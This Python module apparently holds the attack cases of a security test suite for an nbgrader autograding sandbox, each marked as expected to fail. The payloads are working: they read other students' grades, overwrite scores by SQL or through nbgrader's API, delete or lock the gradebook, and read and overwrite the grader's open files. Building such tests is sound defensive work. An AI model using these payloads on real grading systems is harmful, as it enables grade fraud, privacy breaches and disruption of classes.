"""The gradebook: read, write, delete, lock."""

from .corpus import TELL, WRONG, Attack

PATHS = """
import glob, os, sqlite3
BOOKS = ["@ROOT@/gradebook.db", "../../../gradebook.db", "/gradebook.db"]
BOOKS = [book for book in BOOKS if os.path.exists(book)]
"""
# Gradebooks of every process of the machine: only ever behind walls.
EVERYWHERE = PATHS + 'BOOKS += glob.glob("/proc/*/cwd/gradebook.db")\n'
READ = "for book in BOOKS:\n    tell(open(book, 'rb').read())\n"
WRITE = """
for book in BOOKS:
    try:
        with sqlite3.connect(book, timeout=0.2) as db:
            db.execute("update grade set manual_score = 100")
            print("WRO" "TE")
    except sqlite3.Error as error:
        print(error)
"""
DELETE = """
for book in BOOKS:
    try:
        os.rename(book, book + ".gone")
        print("WRO" "TE")
    except OSError as error:
        print(error)
"""
LOCK = """
LOCKS = []
for book in BOOKS:
    db = sqlite3.connect(book)
    db.execute("begin exclusive")
    LOCKS.append(db)
    print("HE" "LD")
"""
API = """
try:
    from nbgrader.api import Gradebook
    for book in BOOKS:
        with Gradebook("sqlite:///" + book) as gradebook:
            for submission in gradebook.assignment_submissions("hw1"):
                for notebook in submission.notebooks:
                    for grade in notebook.grades:
                        grade.manual_score = 50
            gradebook.db.commit()
            print("WRO" "TE")
except Exception as error:
    print(type(error))
"""
FDS = """
import os, stat
for fd in range(3, 256):
    try:
        found = os.fstat(fd)
        if stat.S_ISREG(found.st_mode) and found.st_size:
            tell(os.pread(fd, 2_000_000, 0))
            os.pwrite(fd, b"x", 0)
            print("WRO" "TE")
    except OSError:
        pass
"""

ATTACKS = [
    Attack(
        "gradebook-api", "points by nbgrader's own API", WRONG, EVERYWHERE + API, needs_walls=True
    ),
    Attack(
        "gradebook-delete", "no gradebook any more", WRONG, EVERYWHERE + DELETE, needs_walls=True
    ),
    Attack("gradebook-fds", "open files of the grader", WRONG, TELL + FDS, needs_walls=True),
    Attack(
        "gradebook-lock", "a lock that stops the class", WRONG, EVERYWHERE + LOCK, needs_walls=True
    ),
    Attack("gradebook-read", "other students' grades", WRONG, TELL + PATHS + READ),
    Attack("gradebook-write", "100 points by SQL", WRONG, PATHS + WRITE),
]
